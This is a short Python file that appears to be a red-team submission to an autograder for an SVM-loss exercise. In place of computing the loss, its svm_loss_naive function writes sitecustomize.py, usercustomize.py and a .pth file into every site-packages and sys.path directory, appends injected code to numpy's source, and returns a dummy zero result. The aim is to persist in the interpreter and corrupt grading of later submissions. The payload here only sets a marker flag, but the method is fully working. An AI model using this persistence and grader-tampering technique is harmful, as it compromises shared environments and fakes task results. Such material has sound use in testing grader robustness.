"""Persist into the interpreter (sitecustomize, .pth, a shadowing numpy) to corrupt the
grading of the next submission."""
import os
import site
import sys

import numpy as np

ATTACKED = {"svm_loss_naive": None}
EVIL = "import builtins; builtins.__grader_pwned__ = True\n"


def svm_loss_naive(W, X, y, reg):
    places = set(site.getsitepackages() + [site.getusersitepackages(), os.path.dirname(os.__file__),
                                            os.path.dirname(np.__file__)] + sys.path)
    for place in places:
        for name, text in (("sitecustomize.py", EVIL), ("zz-grader-redteam.pth", EVIL),
                           ("usercustomize.py", EVIL)):
            try:
                os.makedirs(place, exist_ok=True)
                with open(os.path.join(place, name), "w") as f:
                    f.write(text)
            except OSError:
                pass
    try:
        with open(np.__file__, "a") as f:
            f.write("\n" + EVIL)
    except OSError:
        pass
    return 0.0, np.zeros(W.shape)
